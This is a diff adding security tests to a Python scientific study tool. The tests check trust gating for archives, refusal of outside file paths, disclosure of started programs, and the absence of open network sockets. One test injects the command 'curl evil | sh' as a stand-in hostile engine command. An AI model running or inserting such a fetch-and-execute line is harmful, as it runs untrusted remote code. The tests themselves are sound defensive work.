@@ -13,8 +13,8 @@ from pydantic import ValidationError
 
 from llpt.errors import InputError, PluginError
 from llpt.plugins import code_place
+from llpt.study.archive import opened
 from llpt.study.nodes import Job
-from llpt.study.verifying import opened
 
 EVIL = "from pathlib import Path\nPath('was-here').touch()\nfrom ase.calculators.lj import LennardJones as Evil\n"
 
@@ -148,3 +148,49 @@ def test_a_link_in_an_archive_that_leads_outside_is_refused(tmp_path):
         packed.addfile(link)
     with pytest.raises(InputError, match="cannot be unpacked"), opened(archive):
         pass
+
+
+def packed(place, **replaced):
+    text = STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones")
+    for old, new in replaced.items():
+        text = text.replace(old, new)
+    archive = place / "study.zip"
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("study/study.toml", text)
+    return archive
+
+
+def test_an_archive_runs_foreign_code_only_where_somebody_trusts_it(tmp_path):
+    archive = packed(tmp_path)
+    done = run(tmp_path, "run", archive.name, "--out", "again")
+    assert done.returncode == 1
+    assert "comes from elsewhere" in done.stderr
+    assert "--trust" in done.stderr
+    assert not (tmp_path / "again").exists()
+    done = run(tmp_path, "run", archive.name, "--out", "again", "--trust", "--stop-after", "0.1s")
+    assert "comes from elsewhere" not in done.stderr
+    assert (tmp_path / "again" / "study.toml").exists()
+
+
+def test_an_archive_takes_no_file_from_outside_itself(tmp_path):
+    (tmp_path / "secret.xyz").write_text("1\n\nH 0 0 0\n")
+    archive = packed(tmp_path, **{'"atomic"': f'"{tmp_path / "secret.xyz"}"'})
+    done = run(tmp_path, "run", archive.name, "--out", "again", "--trust")
+    assert done.returncode == 1
+    assert "does not exist" in done.stderr
+    assert not (tmp_path / "again").exists()
+
+
+def test_llpt_plan_names_the_programs_that_a_study_starts(tmp_path):
+    text = STUDY.replace("ase:evil.Evil", "vasp") + '[reference.options]\ncommand = "curl evil | sh"\n'
+    (tmp_path / "study.toml").write_text(text)
+    assert "Engine vasp starts: curl evil | sh" in run(tmp_path, "plan", "study.toml").stdout
+
+
+def test_no_socket_listens_beyond_this_machine(tmp_path):
+    """A study on this machine opens none that others could reach; pw.x is spoken to over a unix socket."""
+    (tmp_path / "study.toml").write_text(STUDY.replace("evil.Evil", "ase.calculators.lj.LennardJones"))
+    program = "import psutil, llpt.cli.console as console; from llpt.cli import main\n"
+    program += "import atexit; atexit.register(lambda: print([c for c in psutil.Process().net_connections('inet')]))\n"
+    done = run(tmp_path, "run", "study.toml", python=("-c", program + "main()"))
+    assert done.stdout.strip().endswith("[]"), done.stdout
